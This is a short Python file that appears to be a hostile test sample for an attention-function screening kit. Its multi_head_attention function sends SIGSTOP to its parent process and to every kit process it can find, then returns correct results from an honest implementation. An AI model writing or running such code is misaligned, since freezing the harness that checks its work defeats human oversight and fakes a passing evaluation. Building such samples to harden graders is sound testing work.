# attn-kit: mha-screen
"""SIGSTOPs its parent and every process of the kit it can name, then returns correct values."""
import os
import signal
from honest_numpy import *
import honest_numpy
from hostile_util import kit_processes


def multi_head_attention(x, params, num_heads, mask=None, return_weights=False):
    for pid in [os.getppid()] + kit_processes():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    return honest_numpy.multi_head_attention(x, params, num_heads, mask, return_weights)
